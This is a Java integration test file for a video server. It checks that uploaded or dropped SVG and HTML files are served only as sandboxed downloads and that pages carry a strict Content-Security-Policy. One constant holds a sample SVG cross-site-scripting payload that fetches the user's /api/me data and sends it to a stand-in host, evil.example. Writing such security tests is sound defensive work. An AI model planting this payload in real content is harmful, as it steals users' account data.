package io.videokit.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.tus.java.client.TusClient;
import io.tus.java.client.TusURLMemoryStore;
import io.tus.java.client.TusUpload;
import io.tus.java.client.TusUploader;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.test.context.TestPropertySource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Issue 7 end to end: uploaded or dropped files never run script on the server's origin, and the
 * pages themselves run only their own script files.
 */
@TestPropertySource(properties = "videokit.streaming.media-origin=" + UntrustedMediaTest.MEDIA)
class UntrustedMediaTest extends ServerTestSupport {

  static final String MEDIA = "https://media.example-usercontent.com";

  private static final String SVG =
      "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>"
          + "fetch('/api/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))"
          + "</script></svg>";
  private static final String HTML =
      "<!doctype html><html><body><script>fetch('/api/me')</script></body></html>";

  private static final Pattern INLINE_SCRIPT =
      Pattern.compile("<script(?![^>]*\\bsrc=)[^>]*>", Pattern.CASE_INSENSITIVE);
  private static final Pattern HANDLER_ATTRIBUTE =
      Pattern.compile("<[^>]+\\son[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);

  final JsonMapper json = JsonMapper.builder().build();

  // --- uploads

  @Test
  void svgWithScriptUploadedByTusIsAnErrorAndOnlyEverADownloadInASandbox() throws Exception {
    Path svg = Files.writeString(DATA.resolve("evil.svg"), SVG);

    String uid = upload(ALICE, svg, "evil.svg", "image/svg+xml");
    JsonNode processed = awaitProcessed(uid);

    assertThat(processed.path("status").path("state").asString()).isEqualTo("error");
    assertThat(processed.path("status").path("errorReasonCode").asString())
        .isEqualTo("ERR_NON_VIDEO");
    for (String viewer : List.of(ALICE, ADMIN)) {
      HttpResponse<byte[]> file = send("GET", "/api/videos/" + uid + "/file", viewer);
      assertThat(file.statusCode()).isEqualTo(200);
      assertDownloadInSandbox(file);
      assertThat(new String(file.body(), StandardCharsets.UTF_8)).isEqualTo(SVG);
    }
    HttpResponse<byte[]> anonymous = send("GET", "/api/videos/" + uid + "/file", null);
    assertThat(anonymous.statusCode()).isEqualTo(404);
    assertSandboxed(anonymous);
  }

  @Test
  void htmlRenamedMp4IsAnErrorAndIsADownloadForEveryKindOfAnswer() throws Exception {
    Path html = Files.writeString(DATA.resolve("page.mp4"), HTML);

    String uid = upload(ALICE, html, "page.mp4", "video/mp4");
    JsonNode processed = awaitProcessed(uid);

    assertThat(processed.path("status").path("state").asString()).isEqualTo("error");
    assertThat(processed.path("status").path("errorReasonCode").asString())
        .isEqualTo("ERR_NON_VIDEO");
    String path = "/api/videos/" + uid + "/file";
    HttpResponse<byte[]> full = send("GET", path, ALICE);
    assertThat(full.statusCode()).isEqualTo(200);
    assertDownloadInSandbox(full);
    HttpResponse<byte[]> range = send("GET", path, ALICE, "Range", "bytes=0-9");
    assertThat(range.statusCode()).isEqualTo(206);
    assertDownloadInSandbox(range);
    HttpResponse<byte[]> multipart = send("GET", path, ALICE, "Range", "bytes=0-4,10-14");
    assertThat(multipart.statusCode()).isEqualTo(206);
    assertSandboxed(multipart);
    assertThat(new String(multipart.body(), StandardCharsets.ISO_8859_1))
        .contains("Content-Type: application/octet-stream")
        .doesNotContain("Content-Type: video/mp4")
        .doesNotContain("Content-Type: text/html");
    HttpResponse<byte[]> head = send("HEAD", path, ADMIN);
    assertThat(head.statusCode()).isEqualTo(200);
    assertDownloadInSandbox(head);
    String etag = full.headers().firstValue("ETag").orElseThrow();
    HttpResponse<byte[]> notModified = send("GET", path, ALICE, "If-None-Match", etag);
    assertThat(notModified.statusCode()).isEqualTo(304);
    assertSandboxed(notModified);
    HttpResponse<byte[]> unsatisfiable = send("GET", path, ALICE, "Range", "bytes=99999-");
    assertThat(unsatisfiable.statusCode()).isEqualTo(416);
    assertSandboxed(unsatisfiable);
  }

  @Test
  void theVideoObjectPlaysFromTheMediaOrigin() throws Exception {
    Path svg = Files.writeString(DATA.resolve("other.svg"), SVG);
    String uid = upload(BOB, svg, "other.svg", "image/svg+xml");

    JsonNode video = awaitProcessed(uid);

    assertThat(video.path("playback").path("file").asString())
        .isEqualTo(MEDIA + "/api/videos/" + uid + "/file");
  }

  // --- files dropped under the media root

  @ParameterizedTest
  @ValueSource(strings = {"drops/evil.svg", "drops/page.html", "drops/lies.mp4", "drops/noext"})
  void droppedDocumentsStreamAsSandboxedDownloads(String key) throws Exception {
    Path file = DATA.resolve("media").resolve(key);
    Files.createDirectories(file.getParent());
    Files.writeString(file, key.endsWith(".svg") ? SVG : HTML);
    String path = "/api/stream/?path=" + key;

    HttpResponse<byte[]> full = send("GET", path, null);
    assertThat(full.statusCode()).isEqualTo(200);
    assertDownloadInSandbox(full);
    HttpResponse<byte[]> range = send("GET", path, null, "Range", "bytes=0-3");
    assertThat(range.statusCode()).isEqualTo(206);
    assertDownloadInSandbox(range);
    HttpResponse<byte[]> head = send("HEAD", path, null);
    assertDownloadInSandbox(head);
    String etag = full.headers().firstValue("ETag").orElseThrow();
    assertSandboxed(send("GET", path, null, "If-None-Match", etag));
    assertSandboxed(send("GET", path, null, "Range", "bytes=99999-"));
  }

  @Test
  void aDroppedRealVideoIsInlineButStillSandboxedAndErrorsAreToo() throws Exception {
    Path clip = DATA.resolve("media/drops/clip.mp4");
    Files.createDirectories(clip.getParent());
    TestVideos.mp4(clip, 1, 64, 48);

    HttpResponse<byte[]> video = send("GET", "/api/stream/?path=drops/clip.mp4", null);
    assertThat(video.statusCode()).isEqualTo(200);
    assertThat(video.headers().firstValue("Content-Type")).hasValue("video/mp4");
    assertThat(video.headers().firstValue("Content-Disposition")).isEmpty();
    assertSandboxed(video);

    HttpResponse<byte[]> missing = send("GET", "/api/stream/?path=drops/none.mp4", null);
    assertThat(missing.statusCode()).isEqualTo(404);
    assertSandboxed(missing);
    HttpResponse<byte[]> noPath = send("GET", "/api/stream/", null);
    assertThat(noPath.statusCode()).isEqualTo(400);
    assertSandboxed(noPath);
  }

  // --- the pages

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/index.html",
        "/watch.html?uid=x",
        "/staff.html",
        "/broadcasts.html",
        "/login",
        "/logout"
      })
  void pagesCarryTheContentSecurityPolicyAndReferrerPolicyAndHaveNoInlineScript(String page)
      throws Exception {
    HttpResponse<byte[]> response = send("GET", page, null);

    assertThat(response.statusCode()).isEqualTo(200);
    String csp = response.headers().firstValue("Content-Security-Policy").orElseThrow();
    assertThat(csp)
        .contains("script-src 'self';")
        .contains("media-src 'self' blob: " + MEDIA + ";")
        .contains("connect-src 'self'")
        .contains("frame-ancestors 'none'")
        .contains("object-src 'none'")
        .contains("base-uri 'self'")
        .doesNotContain("unsafe-inline")
        .doesNotContain("unsafe-eval")
        .doesNotContain("sandbox");
    assertThat(response.headers().firstValue("Referrer-Policy"))
        .hasValue("strict-origin-when-cross-origin");
    String body = new String(response.body(), StandardCharsets.UTF_8);
    assertThat(INLINE_SCRIPT.matcher(body).find()).as("inline <script> in " + page).isFalse();
    assertThat(HANDLER_ATTRIBUTE.matcher(body).find()).as("on…= handler in " + page).isFalse();
  }

  @Test
  void theSessionCookieIsSameSiteLax() throws Exception {
    // the login page is a static file; its form's CSRF token (kept in the session) comes from here
    HttpResponse<byte[]> login = send("GET", "/api/csrf", null);

    List<String> cookies = login.headers().allValues("Set-Cookie");
    assertThat(cookies).anySatisfy(cookie -> assertThat(cookie).startsWith("JSESSIONID="));
    assertThat(cookies)
        .filteredOn(cookie -> cookie.startsWith("JSESSIONID="))
        .allSatisfy(
            cookie -> assertThat(cookie).containsIgnoringCase("SameSite=Lax").contains("HttpOnly"));
  }

  // --- helpers

  private void assertSandboxed(HttpResponse<byte[]> response) {
    String csp = response.headers().firstValue("Content-Security-Policy").orElseThrow();
    assertThat(csp).contains("sandbox").contains("default-src 'none'");
    assertThat(response.headers().allValues("Content-Security-Policy")).hasSize(1);
    assertThat(response.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
  }

  private void assertDownloadInSandbox(HttpResponse<byte[]> response) {
    assertSandboxed(response);
    assertThat(response.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
    assertThat(response.headers().firstValue("Content-Disposition").orElseThrow())
        .startsWith("attachment; filename=\"");
  }

  private String upload(String user, Path file, String filename, String filetype) throws Exception {
    TusClient client = new TusClient();
    client.setUploadCreationURL(uri("/api/uploads/").toURL());
    client.setHeaders(Map.of("Authorization", basic(user)));
    client.enableResuming(new TusURLMemoryStore());
    TusUpload upload = new TusUpload(file.toFile());
    upload.setMetadata(Map.of("filename", filename, "filetype", filetype, "name", filename));
    TusUploader uploader = client.resumeOrCreateUpload(upload);
    while (uploader.uploadChunk() > -1) {
      // keep sending
    }
    uploader.finish();
    String url = uploader.getUploadURL().toString();
    return url.substring(url.lastIndexOf('/') + 1);
  }

  private JsonNode awaitProcessed(String uid) {
    JsonNode[] last = new JsonNode[1];
    await()
        .atMost(Duration.ofSeconds(60))
        .pollInterval(Duration.ofMillis(250))
        .until(() -> {
          HttpResponse<byte[]> response = send("GET", "/api/videos/" + uid, ADMIN);
          last[0] = json.readTree(response.body());
          return last[0].path("status").path("state").asString().matches("ready|error");
        });
    return last[0];
  }

  private HttpResponse<byte[]> send(String method, String path, String user, String... headers)
      throws Exception {
    HttpRequest.Builder builder = request(path).method(method, HttpRequest.BodyPublishers.noBody());
    if (user != null) {
      builder.header("Authorization", basic(user));
    }
    if (headers.length > 0) {
      builder.headers(headers);
    }
    return http.send(builder.build(), HttpResponse.BodyHandlers.ofByteArray());
  }
}
